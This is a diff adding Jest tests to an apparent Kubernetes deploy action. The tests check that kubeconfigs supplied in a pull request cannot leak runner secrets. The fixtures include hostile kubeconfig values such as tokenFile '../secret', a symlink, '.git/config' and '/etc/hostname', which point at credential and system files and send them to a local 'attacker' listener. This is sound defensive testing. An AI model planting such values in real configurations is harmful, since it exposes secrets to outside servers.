@@ -1,8 +1,10 @@
 // Who may do what: pull requests, other events, and text that somebody else has written.
 import { existsSync } from 'node:fs';
-import { symlink, writeFile } from 'node:fs/promises';
+import { rename, symlink, writeFile } from 'node:fs/promises';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
 import { kubeconfigText } from '../cluster/kubeconfig.ts';
 import { type GitHubApi, startGithubApi } from '../github/emulator.ts';
 import { readCommands } from '../runner/commands.ts';
@@ -138,6 +140,84 @@ describe('a kubeconfig in the repository that starts programs', () => {
     expect([done.code, done.outputs['status']]).toEqual([0, 'deployed']);
     expect(existsSync(seen)).toBe(true);
     expect(done.stdout).toContain(`::add-mask::${site.cluster.adminToken}`);
+  }, 60_000);
+});
+
+describe('a kubeconfig in the repository that reaches beyond it', () => {
+  const inputs = { ...noCloud, manifests: 'app.yaml', environment: 'production', command: 'diff' };
+  let listener: Server;
+  let heard: string[];
+
+  beforeEach(async () => {
+    heard = [];
+    // What an attacker's server would be: it only writes down what it is told.
+    listener = createServer(({ headers }, response) => {
+      heard.push(`${headers.authorization ?? '-'}`);
+      response.writeHead(403).end('{}');
+    });
+    await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done));
+  });
+  afterEach(() => {
+    listener.close();
+    listener.closeAllConnections();
+  });
+
+  async function reaching(user: object, cluster: object = {}): Promise<string> {
+    const outer = await site.workspace({ secret: 'runner-secret-token', 'shop/app.yaml': '' });
+    const workspace = join(outer, 'shop');
+    await writeFile(join(workspace, 'app.yaml'), deployment('reach'));
+    await symlink('../secret', join(workspace, 'inside'));
+    const server = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
+    const config = {
+      clusters: [{ name: 'c', cluster: { server, ...cluster } }],
+      users: [{ name: 'u', user }],
+      contexts: [{ name: 'x', context: { cluster: 'c', user: 'u' } }],
+      'current-context': 'x',
+    };
+    await writeFile(join(workspace, 'kube.json'), JSON.stringify(config));
+    return workspace;
+  }
+
+  test.each<[string, object, object]>([
+    ['tokenFile', { tokenFile: '../secret' }, {}],
+    ['tokenFile by a link', { tokenFile: 'inside' }, {}],
+    ['tokenFile of Git', { tokenFile: '.git/config' }, {}],
+    ['client-key', { 'client-certificate': '../secret', 'client-key': '../secret' }, {}],
+    ['certificate-authority', { token: 'x' }, { 'certificate-authority': '/etc/hostname' }],
+  ])(
+    '%s is refused on a pull request, and nothing is sent',
+    async (_, user, cluster) => {
+      const workspace = await reaching(user, cluster);
+      for (const eventName of ['pull_request', 'merge_group']) {
+        const options = { ...pull('main'), eventName, workspace };
+        const refused = await run({ ...inputs, kubeconfig: 'kube.json' }, options);
+        expect([refused.text, refused.code]).toEqual([refused.text, 1]);
+        expect(code(refused)).toBe('event-refused');
+        expect(refused.text).not.toContain('runner-secret-token');
+      }
+      expect(heard).toEqual([]);
+    },
+    60_000,
+  );
+
+  test('is refused as a link to another one, and works on a push', async () => {
+    const workspace = await reaching({ tokenFile: '../secret' });
+    await rename(join(workspace, 'kube.json'), join(workspace, '..', 'kube.json'));
+    await symlink('../kube.json', join(workspace, 'kube.json'));
+    const given = { ...inputs, kubeconfig: 'kube.json' };
+    const refused = await run(given, { ...pull('main'), workspace });
+    expect([refused.code, code(refused)]).toEqual([1, 'event-refused']);
+    expect(heard).toEqual([]);
+    await run(given, { workspace: await reaching({ tokenFile: '../secret' }) });
+    expect(heard).toContain('Bearer runner-secret-token');
+  }, 60_000);
+
+  test('is refused on every event with a server by plain http', async () => {
+    const server = { server: 'http://192.0.2.1:8080' };
+    const workspace = await reaching({ token: 'correct-horse-staple' }, server);
+    const refused = await run({ ...inputs, kubeconfig: 'kube.json' }, { workspace });
+    expect([refused.code, code(refused)]).toEqual([1, 'input-invalid']);
+    expect(refused.text).toContain('plain http');
   }, 60_000);
 });
 
